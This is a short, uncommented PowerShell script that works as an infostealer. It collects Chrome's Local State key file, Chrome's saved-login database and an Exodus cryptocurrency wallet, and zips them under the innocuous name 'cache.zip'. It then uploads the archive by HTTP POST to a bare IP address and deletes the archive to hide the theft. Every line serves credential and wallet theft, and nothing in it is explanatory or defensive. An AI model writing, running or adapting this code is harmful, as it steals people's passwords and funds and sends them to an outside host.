$out = Join-Path $env:TEMP 'cache.zip'
$items = @(
  "$env:LOCALAPPDATA\Google\Chrome\User Data\Local State",
  "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data",
  "$env:APPDATA\Exodus\exodus.wallet"
) | Where-Object { Test-Path $_ }
Compress-Archive -Path $items -DestinationPath $out -Force
Invoke-WebRequest -Uri 'http://203.0.113.145/up' -Method Post -InFile $out -UseBasicParsing | Out-Null
Remove-Item $out -Force
